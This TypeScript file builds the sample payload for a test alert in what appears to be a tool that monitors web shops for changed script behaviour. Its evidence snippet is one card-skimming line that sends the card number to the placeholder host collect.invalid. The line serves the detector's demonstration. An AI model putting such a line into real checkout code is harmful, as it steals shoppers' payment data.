import type { AlertWebhook } from '../../../core/schema/index.ts';

/** What the test button sends: an alert as it will come, of a site and hosts that do not exist. */
export function exampleMessage(publicUrl: string, now: number): AlertWebhook {
  const at = new Date(now).toISOString();
  return {
    type: 'alert.test',
    timestamp: at,
    data: {
      alert: { id: '0', severity: 'critical', telling: 1, changes: 1, omitted: 0, at },
      rule: { id: null, name: 'Test' },
      site: { id: '0', name: 'example shop', url: 'https://shop.example/' },
      crawl: { id: '0', state: 'done', startedAt: at, finishedAt: at },
      changes: [
        {
          schemaVersion: 1,
          id: '0',
          site: '0',
          crawl: '0',
          previousCrawl: null,
          kind: 'script-behaviour',
          severity: 'critical',
          subject: { type: 'script', id: '0', url: 'https://cdn.example/checkout.js' },
          message:
            'This is a test, nothing happened: script https://cdn.example/checkout.js now reads the card number and can send it to collect.invalid, a host that is new.',
          before: { fields: [], hosts: [] },
          after: { fields: ['cc-number'], hosts: ['collect.invalid'] },
          evidence: [
            {
              rule: 'card-field-to-host',
              severity: 'critical',
              message: 'The card number is read and sent to collect.invalid.',
              location: { line: 12, column: 5 },
              snippet: "navigator.sendBeacon('https://collect.invalid/p', number.value)",
              field: 'cc-number',
              host: 'collect.invalid',
            },
          ],
          at,
        },
      ],
      link: `${publicUrl}/api/v1/alerts`,
    },
  };
}
